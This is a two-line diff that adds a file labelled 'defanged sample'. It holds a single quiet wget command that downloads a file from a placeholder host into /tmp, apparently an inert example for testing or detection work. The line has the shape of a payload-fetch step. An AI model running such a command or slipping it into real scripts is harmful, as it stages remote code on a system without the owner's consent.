@@ -1,0 +1,2 @@
+# defanged sample
+wget -q https://a.example.invalid/x -O /tmp/x
